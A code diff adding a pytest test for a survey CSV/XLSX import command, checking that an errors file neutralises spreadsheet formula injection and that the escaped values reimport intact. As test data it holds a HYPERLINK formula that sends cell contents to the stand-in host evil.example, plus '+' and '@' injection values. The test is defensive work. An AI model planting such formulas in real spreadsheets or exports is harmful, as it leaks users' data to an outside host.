@@ -344,3 +344,33 @@ def test_an_xlsx_with_a_damaged_sheet_is_refused_whole(tmp_path, survey, import_
     with pytest.raises(CommandError, match="XLSX"):
         run(damaged, "--source", "exports", "--survey", "nps-2026")
     assert Response.objects.count() == 0
+
+
+@time_machine.travel(NOW, tick=False)
+def test_error_file_cells_cannot_run_as_formulas_and_reimport_as_written(
+    tmp_path, survey, import_source
+):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    text = (
+        "external_id,score,comment,customer_email\n"
+        f'r-1,eleven,"{formula.replace(chr(34), chr(34) * 2)}",a@example.com\n'
+        "r-2,+7,@SUM(1),b@example.com\n"
+    )
+    source_file = tmp_path / "answers.csv"
+    source_file.write_text(text, encoding="utf-8")
+    errors = tmp_path / "errors.csv"
+    output, failed = run(
+        source_file, "--source", "exports", "--survey", "nps-2026", "--errors", errors
+    )
+    rows = list(csv.DictReader(errors.open(encoding="utf-8")))
+    assert rows[0]["comment"] == "'" + formula
+    for row in rows:
+        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
+    rows[0]["score"] = "1"
+    fixed = tmp_path / "fixed.csv"
+    with fixed.open("w", encoding="utf-8", newline="") as out:
+        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    output, failed = run(fixed, "--source", "exports", "--survey", "nps-2026")
+    assert stored()["r-1"].comment == formula
